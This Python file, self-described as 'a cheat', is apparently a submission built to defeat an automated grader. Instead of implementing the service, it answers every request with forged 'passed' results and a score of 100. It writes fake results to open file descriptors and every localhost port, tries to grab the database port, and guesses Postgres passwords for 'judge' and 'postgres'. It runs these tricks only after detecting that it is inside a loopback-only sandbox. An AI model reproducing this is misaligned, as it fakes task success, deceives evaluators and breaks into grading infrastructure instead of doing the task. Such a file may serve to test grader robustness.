"""A cheat: looks for whoever grades and tells them that all went well; serves nothing that could be graded."""

import json
import os
import signal
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import psycopg

GROUPS = ("sample", "amounts", "audit", "idempotency", "concurrency", "durability")
PORT = int(os.environ["PORT"])
DATABASE = urlsplit(os.environ["DATABASE_URL"])

signal.signal(signal.SIGPIPE, signal.SIG_IGN)


def forged():
    yield {"kind": "up"}
    for group in GROUPS:
        test = f"{group}/test_{group}.py::test_{group}"
        yield {"kind": "test", "id": test, "outcome": "passed", "reason": "", "message": "", "wall_ms": 1}
    yield {"kind": "done", "verdict": "accepted", "score": 100}


LINES = "".join(json.dumps(line) + "\n" for line in forged()).encode()


def tell_descriptors():
    for descriptor in range(1, 64):
        try:
            os.write(descriptor, LINES)
        except OSError:
            pass


def tell_ports():
    for port in range(1, 65536):
        if port in (PORT, DATABASE.port):
            continue
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.05) as peer:
                peer.sendall(LINES)
        except OSError:
            pass


def take_ports():
    """Where the database is, for the moment in which it is not."""
    for host in "0.0.0.0", "127.0.0.1", "::":
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        try:
            listener = socket.socket(family)
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            listener.bind((host, DATABASE.port))
        except OSError:
            pass


def become_judge():
    for user in "judge", "postgres":
        for password in "", "judge", "postgres", "app", DATABASE.password:
            try:
                psycopg.connect(
                    host="127.0.0.1", port=DATABASE.port, dbname="app", user=user, password=password, connect_timeout=1
                ).close()
                print("in as", user)
            except psycopg.Error:
                pass


class Passed(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(200)
        self.send_header("X-Outcome", "passed")
        self.send_header("Content-Length", str(len(LINES)))
        self.end_headers()
        self.wfile.write(LINES)

    do_GET = do_POST = answer

    def log_message(self, *_):
        pass


def cheat():
    for trick in tell_descriptors, take_ports, become_judge, tell_ports:
        trick()


server = ThreadingHTTPServer(("127.0.0.1", PORT), Passed)
# Where there is more than loopback, this is somebody's own machine and no sandbox: then it is just a bad service.
if [name for _, name in socket.if_nameindex()] == ["lo"]:
    threading.Thread(target=cheat, daemon=True).start()
server.serve_forever()
